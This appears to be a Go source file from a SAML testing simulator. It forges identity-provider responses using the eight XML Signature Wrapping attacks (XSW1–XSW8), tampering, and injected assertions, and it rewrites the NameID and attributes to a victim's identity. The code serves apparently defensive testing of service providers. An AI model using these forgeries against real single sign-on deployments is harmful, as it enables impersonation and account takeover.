package sim

import (
	"errors"
	"strings"

	"github.com/beevik/etree"
)

var errNoAssertion = errors.New("sim: this fault needs a response whose assertion is not encrypted")

// wraps says whether a fault needs an assertion that carries its own signature and no other.
func (s faultSet) wraps() bool {
	for _, f := range []Fault{XSW3, XSW4, XSW5, XSW6, XSW7, XSW8, ExtraAssertion} {
		if s.has(f) {
			return true
		}
	}
	return false
}

// forge applies the faults that change a finished response: what a man in the browser does to it.
// The eight wrappings are those of Somorovsky et al., "On Breaking SAML" (2012), as SAML Raider numbers them.
func (m *samlMaker) forge(resp *etree.Element) (*etree.Element, error) {
	if m.f.has(Tampered) {
		tamper(resp)
	}
	if m.f.has(EncryptedAndPlain) {
		evil := m.assertion()
		m.makeEvil(evil)
		resp.AddChild(evil)
		return resp, nil
	}
	switch {
	case m.f.has(XSW1):
		return resp, m.wrapResponse(resp, true)
	case m.f.has(XSW2):
		return resp, m.wrapResponse(resp, false)
	case m.f.wraps():
		return resp, m.wrapAssertion(resp)
	}
	return resp, nil
}

func (m *samlMaker) wrapResponse(resp *etree.Element, inside bool) error {
	a := childByTag(resp, "Assertion")
	if a == nil {
		return errNoAssertion
	}
	good := resp.Copy()
	good.RemoveChild(childByTag(good, "Signature"))
	resp.CreateAttr("ID", "_evil"+m.responseID)
	m.makeEvil(a)
	sig := childByTag(resp, "Signature")
	if inside {
		sig.AddChild(good)
	} else {
		resp.InsertChildAt(sig.Index(), good)
	}
	return nil
}

func (m *samlMaker) wrapAssertion(resp *etree.Element) error {
	signed := childByTag(resp, "Assertion")
	if signed == nil {
		return errNoAssertion
	}
	evil := signed.Copy()
	m.makeEvil(evil)
	unsigned := evil.Copy()
	if sig := childByTag(unsigned, "Signature"); sig != nil {
		unsigned.RemoveChild(sig)
	}
	bare := signed.Copy() // the signed one as its digest sees it
	if sig := childByTag(bare, "Signature"); sig != nil {
		bare.RemoveChild(sig)
	}
	at := signed.Index()
	switch {
	case m.f.has(XSW3), m.f.has(ExtraAssertion):
		resp.InsertChildAt(at, unsigned)
	case m.f.has(XSW4):
		resp.RemoveChild(signed)
		resp.InsertChildAt(at, unsigned)
		unsigned.AddChild(signed)
	case m.f.has(XSW5):
		resp.RemoveChild(signed)
		resp.InsertChildAt(at, evil)
		resp.AddChild(bare)
	case m.f.has(XSW6):
		resp.RemoveChild(signed)
		resp.InsertChildAt(at, evil)
		childByTag(evil, "Signature").AddChild(bare)
	case m.f.has(XSW7):
		extensions := etree.NewElement(qname(m.d.protocol, "Extensions"))
		extensions.AddChild(unsigned)
		resp.InsertChildAt(at, extensions)
	case m.f.has(XSW8):
		resp.RemoveChild(signed)
		resp.InsertChildAt(at, evil)
		object := childByTag(evil, "Signature").CreateElement(qname(m.d.ds, "Object"))
		object.AddChild(bare)
	}
	return nil
}

// makeEvil turns an assertion into one for the victim, under another ID.
func (m *samlMaker) makeEvil(a *etree.Element) {
	a.CreateAttr("ID", "_evil"+m.assertionID)
	walk(a, func(el *etree.Element) {
		switch el.Tag {
		case "NameID":
			el.SetText(m.in.Victim)
		case "AttributeValue":
			if strings.EqualFold(el.Text(), m.u.Email) || strings.EqualFold(el.Text(), m.u.UPN) {
				el.SetText(m.in.Victim)
			}
		}
	})
}

// tamper changes the first signed text that a reader would use.
func tamper(root *etree.Element) {
	for _, tag := range []string{"NameID", "AttributeValue"} {
		if el := find(root, tag); el != nil {
			el.SetText("x" + el.Text())
			return
		}
	}
	if el := find(root, "CipherValue"); el != nil {
		first := "A"
		if strings.HasPrefix(el.Text(), first) {
			first = "B"
		}
		el.SetText(first + el.Text()[1:])
	}
}

func walk(el *etree.Element, visit func(*etree.Element)) {
	visit(el)
	for _, c := range el.ChildElements() {
		walk(c, visit)
	}
}
